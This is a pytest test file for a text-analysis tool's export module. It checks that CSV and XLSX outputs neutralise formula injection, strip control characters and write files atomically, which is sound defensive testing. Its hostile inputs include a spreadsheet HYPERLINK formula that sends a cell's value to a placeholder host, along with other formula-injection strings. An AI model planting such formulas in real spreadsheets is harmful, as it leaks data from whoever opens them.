"""Exports and console output are safe to open: no live formulas, no control characters,
no half-written files (#15, defects 3 and 7). All texts are invented."""

from __future__ import annotations

import csv
import json
import os

import openpyxl
import pandas as pd
import pytest

from hingeword.errors import HingewordError
from hingeword.export import KWIC_COLUMNS, write_table
from hingeword.files import atomic_path, clean_text, neutralise_cell, write_text

HOSTILE = ['=HYPERLINK("http://example.invalid/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
           "\tlead tab", "plain sentence", "-"]


def hostile_frame() -> pd.DataFrame:
    rows = [[h, "", "discuss", "VERB", "-", "discussed", "idea", h, "discussed", h, f"They {h} here\x07\x1b[31m."]
            for h in HOSTILE]
    return pd.DataFrame(rows, columns=KWIC_COLUMNS)


def test_neutralise_cell_follows_owasp_and_keeps_the_object_slot():
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("+1") == "'+1" and neutralise_cell("-1") == "'-1" and neutralise_cell("@x") == "'@x"
    assert neutralise_cell("\tx") == "'\tx" and neutralise_cell("\rx") == "'\rx"
    assert neutralise_cell("-") == "-"          # "listen + object" is written with the slot "-"
    assert neutralise_cell("fine") == "fine" and neutralise_cell(3) == 3


def test_clean_text_replaces_c0_controls_but_keeps_tab_and_newline():
    assert clean_text("a\x00b\x07c\x1b[31md\x7f") == "a b c [31md "
    assert clean_text("line\tone\nline two") == "line\tone\nline two"


def test_csv_export_has_no_live_formula(tmp_path):
    path = write_table(hostile_frame(), tmp_path / "kwic.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row, h in zip(rows, HOSTILE):
        for col in ("writer", "left", "right"):
            value = row[col]
            assert not value.startswith(("=", "+", "@", "\t")), value
            assert value == (h if h in ("plain sentence", "-") else "'" + h)
        assert row["preposition"] == "-"
        assert "\x07" not in row["sentence"] and "\x1b" not in row["sentence"]


def test_xlsx_export_stores_text_as_text(tmp_path):
    path = write_table(hostile_frame(), tmp_path / "kwic.xlsx")   # control characters would make openpyxl fail
    ws = openpyxl.load_workbook(path).active
    header = [c.value for c in ws[1]]
    assert header == KWIC_COLUMNS
    for r, h in zip(ws.iter_rows(min_row=2), HOSTILE):
        cells = dict(zip(header, r))
        assert cells["writer"].data_type == "s" and cells["writer"].value == h   # text kept whole, as text
        assert cells["sentence"].value.startswith("They ") and "\x1b" not in cells["sentence"].value
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


def test_json_export_is_clean(tmp_path):
    rows = json.loads(write_table(hostile_frame(), tmp_path / "kwic.json").read_text(encoding="utf-8"))["rows"]
    assert rows[0]["writer"] == HOSTILE[0]          # JSON is not opened by spreadsheets: kept as written
    assert all("\x07" not in r["sentence"] for r in rows)


def test_a_failed_write_keeps_the_old_file_and_leaves_no_temporary(tmp_path, monkeypatch):
    target = tmp_path / "patterns.csv"
    target.write_text("old, complete\n", encoding="utf-8")

    def disk_full(*a, **k):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    with pytest.raises(HingewordError, match="cannot write .*patterns.csv: No space left on device"):
        write_table(hostile_frame(), target)
    assert target.read_text(encoding="utf-8") == "old, complete\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["patterns.csv"]


def test_atomic_write_into_a_read_only_folder_is_one_line(tmp_path):
    if os.geteuid() == 0:
        pytest.skip("root ignores folder permissions")
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(HingewordError, match="cannot write"):
            write_text(folder / "x.html", "<p>x</p>")
    finally:
        folder.chmod(0o700)


def test_atomic_path_replaces_in_one_step(tmp_path):
    target = tmp_path / "a.txt"
    with atomic_path(target) as tmp:
        tmp.write_text("new", encoding="utf-8")
        assert not target.exists()
    assert target.read_text(encoding="utf-8") == "new"


def test_xlsx_run_sheet_stores_a_hostile_class_name_as_text(tmp_path):
    run = {"class": '=HYPERLINK("http://example.invalid","x")', "term": "+1", "thresholds": {"min_count": 3}}
    path = write_table(hostile_frame(), tmp_path / "kwic.xlsx", run, {"writer": "=the writer"})
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["concordance", "run", "columns"]
    items = {r[0].value: r[1] for r in wb["run"].iter_rows(min_row=2)}
    assert items["class"].data_type == "s" and items["class"].value == run["class"]
    assert items["thresholds.min_count"].value == 3
    assert wb["columns"]["B2"].data_type == "s" and wb["columns"]["B2"].value == "=the writer"
